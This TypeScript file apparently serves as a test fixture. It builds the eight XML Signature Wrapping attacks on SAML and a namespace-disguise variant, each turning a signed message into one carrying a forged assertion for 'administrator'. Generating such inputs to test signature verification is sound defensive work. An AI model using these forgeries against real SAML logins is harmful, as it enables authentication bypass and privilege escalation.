/*
 * The eight wrapping attacks on XML signatures as they are numbered in the literature (Somorovsky et al., "On Breaking
 * SAML", 2012), made from an honest message that the provider signed.
 */

const element = (xml: string, name: string): string =>
  new RegExp(`<${name}\\b[\\s\\S]*</${name}>`).exec(xml)?.[0] ?? '';
const without = (xml: string, part: string): string => xml.replace(part, () => '');
const evil = (xml: string): string => xml.replaceAll(/ ID="_/g, ' ID="_evil').replace('>person-1<', '>administrator<');

function parts(xml: string) {
  const assertion = element(xml, 'saml:Assertion');
  const signature = element(assertion, 'ds:Signature');
  return { assertion, signature, bare: without(assertion, signature) };
}

const into = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', () => `<ds:Object>${content}</ds:Object></ds:Signature>`);
const afterIssuer = (assertion: string, content: string): string =>
  assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${content}`);

/** The response is signed; another stands around or beside it. */
const ofResponse: Record<string, (xml: string) => string> = {
  xsw1: (xml) => {
    const signature = element(xml, 'ds:Signature');
    const bare = without(xml, signature);
    return afterIssuer(evil(bare), into(signature, bare));
  },
  xsw2: (xml) => {
    const signature = element(xml, 'ds:Signature');
    const bare = without(xml, signature);
    return afterIssuer(evil(bare), `${bare}${signature}`);
  },
};

/** The assertion is signed; another is put where it may be taken for it. */
const ofAssertion: Record<string, (xml: string) => string> = {
  xsw3: (xml) => {
    const { assertion, bare } = parts(xml);
    return xml.replace(assertion, () => `${evil(bare)}${assertion}`);
  },
  xsw4: (xml) => {
    const { assertion, bare } = parts(xml);
    return xml.replace(assertion, () => afterIssuer(evil(bare), assertion));
  },
  xsw5: (xml) => {
    const { assertion, signature, bare } = parts(xml);
    return xml.replace(assertion, () => `${afterIssuer(evil(bare), signature)}${bare}`);
  },
  xsw6: (xml) => {
    const { assertion, signature, bare } = parts(xml);
    return xml.replace(assertion, () => afterIssuer(evil(bare), into(signature, bare)));
  },
  xsw7: (xml) => {
    const { assertion, bare } = parts(xml);
    return xml.replace(assertion, () => `<samlp:Extensions>${evil(bare)}</samlp:Extensions>${assertion}`);
  },
  xsw8: (xml) => {
    const { assertion, signature, bare } = parts(xml);
    return xml.replace(assertion, () => afterIssuer(evil(bare), into(signature, afterIssuer(bare, ''))));
  },
};

/** The first assertion is not the signed one, and is in no namespace of SAML. */
const disguised: Record<string, (xml: string) => string> = {
  'assertion of another namespace': (xml) => {
    const { assertion, bare } = parts(xml);
    const strange = evil(bare).replaceAll('saml:', 'x:').replace('xmlns:x=', 'xmlns:y=');
    return xml.replace(
      assertion,
      () => `${strange.replace('<x:Assertion', '<x:Assertion xmlns:x="urn:x"')}${assertion}`,
    );
  },
};

/** Name, what the provider signs, and how the message is changed afterwards. */
export const wrappings: [name: string, sign: 'response' | 'assertion', edit: (xml: string) => string][] = [
  ...Object.entries(ofResponse).map(([name, edit]) => [name, 'response', edit] as [string, 'response', typeof edit]),
  ...Object.entries({ ...ofAssertion, ...disguised }).map(
    ([name, edit]) => [name, 'assertion', edit] as [string, 'assertion', typeof edit],
  ),
];
